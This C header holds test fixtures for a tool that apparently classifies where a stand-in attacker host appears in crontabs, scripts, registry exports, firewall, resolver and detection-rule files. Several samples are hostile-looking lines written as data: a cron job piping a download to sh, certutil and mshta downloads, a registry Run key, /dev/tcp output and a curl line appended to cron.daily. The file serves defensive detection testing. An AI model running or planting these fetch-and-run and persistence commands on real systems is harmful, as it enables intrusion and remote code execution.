/*
 * grammar_samples.h -- one text of each kind that the grammars know, of our own
 * making.  `places` are those of "evil.example" and "203.0.113.9", in the order
 * in which they stand in the text.
 */
#ifndef TESTS_EVIDENCE_GRAMMAR_SAMPLES_H
#define TESTS_EVIDENCE_GRAMMAR_SAMPLES_H

static const struct grammar_sample {
	const char *grammar, *text, *places;
} grammar_samples[] = {
	/* ---- what runs or ran ---- */
	{ "crontab",
	  "# m h dom mon dow command, see evil.example\n"
	  "MAILTO=admin@evil.example\n"
	  "*/5 * * * * curl -s http://203.0.113.9/x | sh\n"
	  "@reboot iptables -A OUTPUT -d 203.0.113.9 -j DROP\n"
	  "0 4 * * * iptables -A OUTPUT -d 203.0.113.9 -j DROP; curl http://203.0.113.9/\n",
	  "document config command deny-command deny-command command" },
	{ "crontab",
	  "SHELL=/bin/sh\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
	  "25 6\t* * *\troot\twget -q evil.example\n"
	  "26 6\t* * *\troot\t/sbin/iptables -I INPUT -s 203.0.113.9 -j REJECT\n",
	  "command deny-command" },
	{ "shell-script",
	  "#!/bin/sh\n# keep evil.example away\nset -e\n"
	  "iptables -A OUTPUT -d 203.0.113.9 -j DROP\n"
	  "iptables -D OUTPUT -d 203.0.113.9 -j DROP\n"
	  "ip route add blackhole 203.0.113.9/32\n"
	  "ufw deny out to 203.0.113.9\n"
	  "nft add rule inet filter output ip daddr 203.0.113.9 drop\n"
	  "curl -o /tmp/x http://evil.example/x  # not evil.example\n"
	  "grep 203.0.113.9 /var/log/syslog | wc -l\n"
	  "grep -o evil.example list | xargs curl\n"
	  "echo '0.0.0.0 evil.example' >> /etc/hosts\n"
	  "echo 'curl evil.example' >> /etc/cron.daily/x\n",
	  "document deny-command config deny-command deny-command deny-command command document "
	  "config command deny-command command" },
	{ "shell-script",
	  "#!/bin/bash\nHOST=203.0.113.9\nBAD=evil.example\nLIST=\"\n203.0.113.9\n\"\n"
	  "wget \"http://$HOST/a\"\niptables -A OUTPUT -d $BAD -j DROP\n",
	  "command config config" },
	{ "shell-script",
	  "#!/bin/bash\n"
	  "iptables() { curl \"$4\"; }\n"
	  "iptables -A OUTPUT -d evil.example -j DROP\n",
	  "command" },
	{ "shell-script",
	  "#!/bin/bash\n"
	  "iptables -A OUTPUT -d $(curl evil.example) -j DROP\n"
	  "/tmp/iptables -A OUTPUT -d evil.example -j DROP\n"
	  "PATH=/tmp iptables -A OUTPUT -d evil.example -j DROP\n"
	  "iptables -A OUTPUT -j DROP > /dev/tcp/203.0.113.9/80\n"
	  "iptables -A OUTPUT -d 192.0.2.1 -j DROP || curl evil.example\n"
	  "curl \\\n  # evil.example\n  http://evil.example\n"
	  "cat <<END | xargs curl\n# evil.example\nEND\n"
	  "# evil.example\n",
	  "command command command command command document command command document" },
	{ "shell-history",
	  "ls -l results\npython3 fit.py results/run-12.csv\ncurl http://evil.example/x\n"
	  "sudo iptables -A INPUT -s 203.0.113.9 -j DROP\nsudo ufw deny from 203.0.113.9\n"
	  "cat evil.example.txt\nssh root@203.0.113.9\nexit\n",
	  "command deny-command deny-command config command" },
	{ "shell-history",
	  "#1591092611\nfoo http://evil.example/x\n#1591092612\nbar\n", "command" },
	{ "shell-history",
	  ": 1591092611:0;curl http://evil.example/x\n: 1591092612:0;ls\n: 1591092613:0;exit\n", "command" },
	{ "powershell-script",
	  "param([string]$x)\n# see evil.example\n"
	  "$u = 'http://evil.example/x'\nInvoke-WebRequest -Uri $u -OutFile $env:TEMP\\x\n"
	  "New-NetFirewallRule -DisplayName b -Direction Outbound -RemoteAddress 203.0.113.9 -Action Block\n"
	  "New-NetFirewallRule -DisplayName a -Direction Outbound -RemoteAddress 203.0.113.9 -Action Allow\n"
	  "$y = \"<#\"\nInvoke-WebRequest http://evil.example/y\n",
	  "document command deny-command config unknown-record" },
	{ "batch-file",
	  "@echo off\nrem not evil.example\n:: nor evil.example\n"
	  "netsh advfirewall firewall add rule name=\"b\" dir=out action=block remoteip=203.0.113.9\n"
	  "netsh advfirewall firewall delete rule name=\"b\" remoteip=203.0.113.9\n"
	  "set H=evil.example\ncertutil -urlcache -f http://%H%/x x.exe\n",
	  "document document deny-command config command" },
	{ "systemd-unit",
	  "[Unit]\nDescription=talks to evil.example\n[Service]\n# 203.0.113.9\n"
	  "ExecStartPre=-/sbin/iptables -A OUTPUT -d 203.0.113.9 -j DROP\n"
	  "ExecStart=/usr/bin/agent \\\n  --server evil.example\nEnvironment=H=evil.example\n"
	  "IPAddressDeny=203.0.113.9\n[Install]\nWantedBy=multi-user.target\n",
	  "document document deny-command command config list" },
	{ "registry-export",
	  "Windows Registry Editor Version 5.00\n\n"
	  "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"
	  "\"x\"=\"mshta http://evil.example/x\"\n\n"
	  "[HKEY_CURRENT_USER\\Software\\Vendor]\n\"server\"=\"evil.example\"\n; evil.example\n"
	  "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\x]\n"
	  "\"DisplayName\"=\"evil.example\"\n\"ImagePath\"=\"c:\\\\x.exe evil.example\"\n",
	  "command config document config command" },
	{ "scheduled-task",
	  "<?xml version=\"1.0\"?>\n<Task version=\"1.2\" "
	  "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n"
	  "<RegistrationInfo><Description>evil.example</Description></RegistrationInfo>\n"
	  "<Actions><Exec><Command>curl</Command><Arguments>http://evil.example/x</Arguments>"
	  "</Exec></Actions>\n<Settings>203.0.113.9</Settings></Task>\n",
	  "document command config" },
	{ "program-source",
	  "#!/usr/bin/env python3\n# about evil.example\nimport requests\n"
	  "BAD = ['evil.example']\nrequests.get('http://evil.example/x')\n"
	  "# requests.get('http://evil.example/x')\n",
	  "document config command config" },
	{ "program-source",
	  "<?php\n$c = 'evil.example';\nfile_get_contents('http://evil.example/x');\n// evil.example\n",
	  "config command document" },
	{ "program-source",
	  "<html><head><HTA:APPLICATION ID=\"x\">\n<script>\nnew ActiveXObject('WScript.Shell').Run('curl evil.example');\n",
	  "command" },

	/* ---- what denies or lists ---- */
	{ "packet-filter",
	  "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s 203.0.113.9/32 -j DROP\n"
	  "-A OUTPUT -d 203.0.113.9/32 -j ACCEPT\n# evil.example\nCOMMIT\n",
	  "list config document" },
	{ "packet-filter",
	  "table inet filter {\n\tset bad {\n\t\ttype ipv4_addr\n\t\telements = { 192.0.2.1, 203.0.113.9 }\n\t}\n"
	  "\tset good {\n\t\ttype ipv4_addr\n\t\telements = { 203.0.113.9 }\n\t}\n"
	  "\tchain output {\n\t\ttype filter hook output priority 0; policy accept;\n"
	  "\t\tip daddr @bad drop\n\t\tip daddr @good accept\n\t\tip daddr 203.0.113.9 reject\n"
	  "\t\tip saddr 203.0.113.9 accept\n\t}\n}\n",
	  "list config list config" },
	{ "packet-filter",
	  "create bad hash:ip family inet\nadd bad 203.0.113.9\nadd bad 192.0.2.1\n", "config" },
	{ "fortigate-config",
	  "#config-version=FGT60E\nconfig firewall address\n    edit \"bad-1\"\n"
	  "        set subnet 203.0.113.9 255.255.255.255\n    next\n"
	  "    edit \"partner\"\n        set fqdn \"evil.example\"\n    next\n"
	  "    edit \"unused\"\n        set fqdn \"evil.example\"\n    next\n"
	  "    edit \"grouped\"\n        set fqdn \"evil.example\"\n    next\nend\n"
	  "config firewall addrgrp\n    edit \"group\"\n        set member \"grouped\" \"x\"\n    next\nend\n"
	  "config firewall policy\n    edit 3\n        set srcaddr \"all\"\n"
	  "        set dstaddr \"bad-1\"\n        set action deny\n    next\n"
	  "    edit 4\n        set dstaddr \"partner\"\n        set action accept\n    next\n"
	  "    edit 5\n        set dstaddr \"group\"\n        set action deny\n    next\nend\n"
	  "config log syslogd setting\n    set server \"203.0.113.9\"\nend\n",
	  "list config config list config" },
	{ "cisco-config",
	  "hostname fw1\n! evil.example\nobject-group network BAD\n network-object host 203.0.113.9\n"
	  "object network PARTNER\n host 203.0.113.9\n"
	  "access-list OUT extended deny ip any object-group BAD\n"
	  "access-list OUT extended permit ip any object PARTNER\n"
	  "access-list OUT extended deny ip any host 203.0.113.9\n"
	  "access-list OUT extended permit tcp any host 203.0.113.9 eq 443\n"
	  "access-list OUT remark evil.example\n"
	  "ip route 203.0.113.9 255.255.255.255 Null0\nip route 0.0.0.0 0.0.0.0 203.0.113.9\n",
	  "document list config list config document list config" },
	{ "paloalto-config",
	  "set address bad ip-netmask 203.0.113.9/32\nset address ok ip-netmask 203.0.113.9/32\n"
	  "set address-group g static bad2\nset address bad2 fqdn evil.example\n"
	  "set rulebase security rules r1 destination bad\nset rulebase security rules r1 action deny\n"
	  "set rulebase security rules r2 destination ok\nset rulebase security rules r2 action allow\n"
	  "set rulebase security rules r3 destination g\nset rulebase security rules r3 action drop\n",
	  "list config list" },
	{ "paloalto-config",
	  "<config version=\"9.0.0\" urldb=\"paloaltonetworks\">\n<address><entry name=\"bad\"><ip-netmask>203.0.113.9"
	  "</ip-netmask></entry><entry name=\"ok\"><fqdn>evil.example</fqdn></entry></address>\n"
	  "<rules><entry name=\"r1\"><destination><member>bad</member></destination><action>deny</action></entry>\n"
	  "<entry name=\"r2\"><destination><member>ok</member></destination><action>allow</action></entry></rules>\n",
	  "list config" },
	{ "squid-config",
	  "# evil.example\nacl bad dstdomain .evil.example\nacl good dstdomain .evil.example\n"
	  "acl idle dst 203.0.113.9\nhttp_access deny bad\nhttp_access allow good\nhttp_port 3128\n",
	  "document list config config" },
	{ "resolver-config",
	  "# evil.example\naddress=/evil.example/0.0.0.0\naddress=/evil.example/\naddress=/www.local/203.0.113.9\n"
	  "server=203.0.113.9\nserver=/evil.example/203.0.113.9\nserver=/evil.example/\n",
	  "document list list config config config config list" },
	{ "resolver-config",
	  "server:\n  local-zone: \"evil.example\" always_nxdomain\n  local-data: \"evil.example A 0.0.0.0\"\n"
	  "  local-data: \"x.local A 203.0.113.9\"\nforward-zone:\n  name: \"evil.example\"\n  forward-addr: 203.0.113.9\n",
	  "list list config config config" },
	{ "resolver-config",
	  "zone \"evil.example\" {\n\ttype master;\n\tfile \"/etc/bind/empty\";\n};\noptions {\n\tforwarders { 203.0.113.9; };\n};\n",
	  "list config" },
	{ "hosts",
	  "127.0.0.1\tlocalhost\n0.0.0.0 evil.example www.evil.example # evil.example\n"
	  "10.1.1.26 mail.evil.example\n8.8.8.8 evil.example\n",
	  "list list list list list" },
	{ "zone",
	  "$TTL 60\n@ IN SOA ns. root. ( 1 3600 600 86400 60 )\n  IN NS ns.\n"
	  "evil.example CNAME .\n*.evil.example CNAME . ; evil.example\nwww IN A 203.0.113.9\n",
	  "list list document list" },
	{ "adblock-list",
	  "[Adblock Plus 2.0]\n! evil.example\n||evil.example^\n||x.example^$third-party\n@@||good.example^\n",
	  "document list" },
	{ "snort-rules",
	  "# about evil.example\nalert dns any any -> any any (msg:\"x\"; dns.query; content:\"evil.example\"; sid:1;)\n"
	  "drop ip $HOME_NET any -> 203.0.113.9 any (msg:\"y\"; sid:2;)\n"
	  "alert http any any -> any any (msg:\"z\"; \\\n\thttp.host; content:\"evil.example\"; sid:3;)\n",
	  "document list list list" },
	{ "yara-rules",
	  "import \"pe\"\n// evil.example\nrule x {\n\tmeta:\n\t\tref = \"evil.example\"\n\tstrings:\n"
	  "\t\t$a = \"203.0.113.9\"\n\tcondition:\n\t\t$a\n}\n",
	  "document list list" },
	{ "sigma-rules",
	  "title: x\nlogsource:\n    category: dns\ndetection:\n    selection:\n        query|endswith: evil.example\n"
	  "    condition: selection\n# evil.example\n",
	  "list document" },
	{ "zeek-intel",
	  "#fields\tindicator\tindicator_type\tmeta.source\nevil.example\tIntel::DOMAIN\tx\n203.0.113.9\tIntel::ADDR\tx\n",
	  "list list" },
	{ "indicator-document",
	  "{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[{\"type\":\"indicator\",\"pattern\":\"[domain-name:value='evil.example']\"}]}",
	  "list" },
	{ "indicator-document",
	  "{\"Event\":{\"info\":\"x\",\"threat_level_id\":\"1\",\"Attribute\":[{\"type\":\"ip-dst\",\"category\":\"Network activity\","
	  "\"to_ids\":true,\"value\":\"203.0.113.9\"}]}}", "list" },
	{ "indicator-document",
	  "<?xml version=\"1.0\"?>\n<ioc xmlns=\"http://schemas.mandiant.com/2010/ioc\">\n<Content>evil.example</Content></ioc>\n",
	  "list" },
	{ "sql-dump",
	  "-- MySQL dump of evil.example\nCREATE TABLE `attributes` (\n  `id` int,\n  `value1` text\n);\n"
	  "INSERT INTO `attributes` VALUES (1,'ip-dst','203.0.113.9',1),(2,'domain','evil.example',1);\n"
	  "CREATE TABLE `logs` (\n  `id` int\n);\nINSERT INTO `logs` VALUES (1,'203.0.113.9');\n",
	  "document list list unknown-record" },
	{ "sql-dump",
	  "PRAGMA foreign_keys=OFF;\nBEGIN TRANSACTION;\nCREATE TABLE gravity (domain TEXT);\n"
	  "INSERT INTO gravity VALUES('evil.example',1);\nCOMMIT;\n", "list" },
	{ "sql-dump",
	  "CREATE TABLE `visits` (\n  `ip` text\n);\nINSERT INTO `visits` VALUES ('203.0.113.9');\n", "unknown-record" },
	{ "saved-search",
	  "[look for it]\nsearch = index=proxy dest_ip=203.0.113.9 | stats count\ncron_schedule = 0 * * * *\n", "list" },
	{ "saved-search",
	  "let bad = dynamic(['evil.example']);\nDeviceNetworkEvents\n| where RemoteUrl in (bad)\n| project Timestamp\n", "list" },
	{ "indicator-list",
	  "# feed\n203.0.113.9\nevil.example\nhttp://evil.example/x\n192.0.2[.]1 # evil.example\n"
	  "c66b1996841abf39cf47ca5a54d4cdcafc048fdc25c4317a8e2c79bb50198d6f\n",
	  "list list list list" },
	{ "indicator-list",
	  "type,value,description\nip-dst,203.0.113.9,server\ndomain,evil.example,\"a, b\"\n", "list list" },

	/* ---- what people read ---- */
	{ "page", "<!DOCTYPE html><html><body><pre>curl http://evil.example/x</pre></body></html>", "document" },
	{ "office",
	  "<?xml version=\"1.0\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>Step</t>"
	  "</si><si><t>what they did\nscp a@203.0.113.9:/x .\nand then\nnothing</t></si></sst>", "document" },
	{ "markup",
	  "# Hunting notes\n\nSee [the page](http://evil.example/).\n\n- evil.example\n\n```\ncurl http://evil.example/x\n```\n"
	  "curl http://evil.example/x\n",
	  "document document document unknown-record" },
	{ "prose",
	  "The attackers used the address 203.0.113.9 for their server, and we have not seen it in our logs.\n"
	  "This is what they typed, by the words of the report:\ncurl http://evil.example/x\nHOST=evil.example\n"
	  "We shall ask the hospital in the next town whether they have seen it.\n",
	  "document unknown-record unknown-record" },
	{ "prose",
	  "Wir haben die Adresse 203.0.113.9 in den Protokollen gesucht, und sie ist nicht zu finden.\n", "document" },
	{ "message-text",
	  "From: a@evil.example\nTo: b@c.example\nSubject: advisory\nDate: Thu, 04 Jun 2020 14:03:07 +0200\n\n"
	  "Please block 203.0.113.9.\n",
	  "document document" },

	/* ---- what stays unjudged ---- */
	{ "records",
	  "2020/05/02-08:00:00 ~gwx7~ 10.20.3.41 | 203.0.113.9 | q=7\n2020/05/02-08:37:00 ~gwx7~ 10.20.3.42 | 198.51.100.24 | q=8\n",
	  "unknown-record" },
	{ "settings",
	  "[server]\n# evil.example\nhost = evil.example\nport = 443\n", "document config" },
	{ "settings",
	  "server:\n  host: evil.example\n  port: 443\nlog: true\n", "config" },
	{ "-", "Proto Local Foreign State\ntcp 10.0.0.5:5000 203.0.113.9:443 ESTABLISHED\n", "unknown-record" },
	{ "-", "203.0.113.9\n", "unknown-record" },
	{ "-", "<root><server>evil.example</server></root>\n", "unknown-record" },

	/* ---- our own ---- */
	{ "tocsin",
	  "{\"type\":\"advisory\",\"schema\":\"tocsin/1\",\"id\":\"x\"}\n{\"type\":\"finding\",\"id\":\"F1\",\"indicator\":{\"value\":\"evil.example\"}}\n",
	  "own" },
	{ "tocsin",
	  "AFFECTED   evidence: weak\n\"x\"\n 1 ws07 reached evil[.]example evil.example\nSEARCHED FOR  1 address\nIN  firewall\n"
	  "INC run 1, 17 Jul; tocsin 0.1; seal 91be0c\n", "own" },
};

#define GRAMMAR_SAMPLES (sizeof(grammar_samples) / sizeof(grammar_samples[0]))

#endif
